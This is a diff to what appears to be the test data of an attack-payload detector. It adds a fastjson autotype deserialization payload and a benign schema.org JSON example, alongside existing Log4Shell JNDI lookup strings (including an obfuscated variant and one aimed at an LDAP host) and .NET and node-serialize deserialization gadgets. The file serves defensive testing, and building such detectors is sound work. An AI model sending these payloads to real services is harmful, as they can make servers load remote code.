@@ -250,6 +250,11 @@ POSITIVES = [
         '{"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
     ),
     (deserialization, "node-serialize", '{"f": "_$$ND_FUNC$$_function(){return 1}()"}'),
+    (
+        deserialization,
+        "fastjson autotype class",
+        '{"@type": "org.apache.xbean.propertyeditor.JndiConverter", "asText": "ldap://x/a"}',
+    ),
     # log4shell
     (log4shell, "plain jndi", "${jndi:ldap://203.0.113.9:1389/a}"),
     (log4shell, "lower lookup", "${${lower:J}${lower:N}${lower:D}${lower:I}:ldap://x/a}"),
@@ -327,6 +332,7 @@ NEGATIVES = [
     "Who am I? Where am I going?",
     "She wrote 'or' in the margin, then 'and', then crossed them out.",
     "Select all (Ctrl+A), then copy (Ctrl+C).",
+    '{"@context": "https://schema.org", "@type": "Person", "name": "Ana"}',
     "To drop a table you write DROP TABLE followed by its name.",
     "wget is not installed on the build image.",
     "Pets: {cat, dog}; colors: {red, green}",
